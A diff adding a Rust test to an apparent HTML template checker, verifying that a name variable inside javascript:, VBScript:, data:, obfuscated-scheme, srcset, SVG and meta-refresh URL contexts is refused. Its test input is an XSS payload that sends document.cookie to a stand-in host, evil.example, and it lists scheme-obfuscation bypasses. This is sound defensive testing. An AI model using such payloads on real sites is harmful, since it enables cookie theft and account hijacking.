@@ -235,6 +235,70 @@ fn name_in_href_or_handler_attribute_runs_script() {
 }
 
 #[test]
+fn name_after_javascript_scheme_or_in_a_url_list_runs_script() {
+    // HTML escaping does not protect a value inside a `javascript:` URL: the attribute's
+    // `&#39;` is decoded back to `'` before the script runs. A `:` before the token used to be
+    // taken as "the scheme is fixed", whatever the scheme.
+    let name = "x');fetch('https://evil.example/'+document.cookie);('";
+    for (body, attribute) in [
+        (
+            r#"<a href="javascript:alert('$Candidate.Name')">hi</a>"#,
+            "href",
+        ),
+        (r#"<a href=" VBScript:msgbox $Event.Topic">hi</a>"#, "href"),
+        (r#"<a href="data:text/html,$Candidate.Name">hi</a>"#, "href"),
+        (
+            r#"<a href="java&#115;cript&#58;//%0aalert($Candidate.Name)">hi</a>"#,
+            "href",
+        ),
+        // Every URL of a list, and the URL an SVG animation or a refresh sets, is a URL.
+        (r#"<img srcset="/a.png 1x, $Candidate.Name 2x">"#, "srcset"),
+        // The value itself may hold the separator: `1x, javascript:... 2x`.
+        (r#"<img srcset="/a.png?n=$Candidate.Name 1x">"#, "srcset"),
+        (
+            r#"<svg><animate attributeName="href" values="/a;/b?n=$Candidate.Name"/></svg>"#,
+            "values",
+        ),
+        (
+            r#"<svg><set attributeName="href" to="$Candidate.Name"/></svg>"#,
+            "to",
+        ),
+        (
+            r#"<meta http-equiv="refresh" content="0; url=$Candidate.Name">"#,
+            "content",
+        ),
+    ] {
+        let found = refused(&request(name, [name, "B"], body, "ok"));
+        assert_eq!(
+            places(&found),
+            [HtmlPlace::UrlScheme {
+                attribute: attribute.into()
+            }],
+            "{body}"
+        );
+    }
+    let (code, stderr) = check(
+        "invite.html",
+        "<p>\n<a href=\"javascript:go('$Candidate.Name')\">x</a></p>\n",
+    );
+    assert_eq!(code, 1, "{stderr}");
+    assert!(stderr.contains("invite.html:2:25"), "{stderr}");
+    // An inert scheme, or a relative URL, still takes a value after it.
+    let r = resolve(&request(
+        name,
+        ["A", "B"],
+        r#"<a href="mailto:$Candidate.Name">x</a><a href="/p?n=$Candidate.Name">y</a>"#,
+        "ok",
+    ))
+    .unwrap();
+    assert!(
+        r.invites[0].body.starts_with(r#"<a href="mailto:x&#39;);"#),
+        "{}",
+        r.invites[0].body
+    );
+}
+
+#[test]
 fn html_template_file_with_unquoted_attribute_passes_check() {
     let (code, stderr) = check("invite.html", "<p>\n  <img alt=$Candidate.Name>\n</p>\n");
     assert_eq!(code, 1, "{stderr}");
